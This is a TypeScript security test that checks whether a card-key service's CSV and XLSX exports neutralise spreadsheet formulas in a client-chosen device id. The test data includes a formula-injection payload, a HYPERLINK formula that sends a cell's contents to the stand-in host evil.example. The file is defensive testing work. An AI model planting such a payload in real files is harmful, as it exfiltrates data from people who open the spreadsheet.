import assert from 'node:assert/strict';
import { readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { db } from '../../server/db/index.js';
import { CardKey } from '../../server/models/index.js';
import { writeCardKeyExport } from '../../server/services/cardKeys/exportCardKeys.js';
import { generateCardKeys } from '../../server/services/cardKeys/generateCardKeys.js';
import { startTestServer, type TestServer } from '../support/http.js';
import { clientFor, makeWorld, recharge, type World } from '../support/cardKeys.js';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")';

/** Issue 11 item 6: a client-chosen device id starting with "=" never becomes a formula in an export. */
describe('security: exports neutralise formulas', function () {
  this.timeout(60_000);
  let w: World;
  let server: TestServer;
  const dir = path.join(os.tmpdir(), `seahorse-formula-test-${process.pid}`);

  before(async () => {
    db();
    w = await makeWorld('formula');
    server = await startTestServer();
    await recharge(w.agent.id, '10.00');
    await generateCardKeys({ actor: w.agent, agentId: w.agent.id, projectId: w.project.id, validityLabel: '1天', count: 1 });
    const key = (await CardKey.findOne({ where: { agentId: w.agent.id } }))!;
    const answer = await clientFor(server.url, w).request('POST', '/open/v1/card-keys/verify', { card_key: key.code, device_id: FORMULA });
    assert.equal(answer.status, 200);
    assert.equal((await CardKey.findByPk(key.id))!.deviceId, FORMULA, 'the client set the device id');
  });
  after(async () => {
    await server.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('CSV: the cell is text starting with an apostrophe', async () => {
    const file = path.join(dir, 'k.csv');
    await writeCardKeyExport(w.agent, {}, 'csv', file);
    const text = await readFile(file, 'utf8');
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""click"")"`), text);
    assert.doesNotMatch(text, /(^|,)"?=/m);
  });

  it('XLSX: the cell is the neutralised text, not a formula', async () => {
    const file = path.join(dir, 'k.xlsx');
    await writeCardKeyExport(w.agent, {}, 'xlsx', file);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const cells: unknown[] = [];
    book.worksheets[0]!.eachRow((row, n) => n > 1 && row.eachCell((c) => cells.push(c.value)));
    assert.ok(cells.includes(`'${FORMULA}`));
    assert.ok(cells.every((v) => typeof v !== 'object' || v === null || v instanceof Date), 'no formula cells');
    assert.ok(!cells.some((v) => typeof v === 'string' && v.startsWith('=')));
  });
});
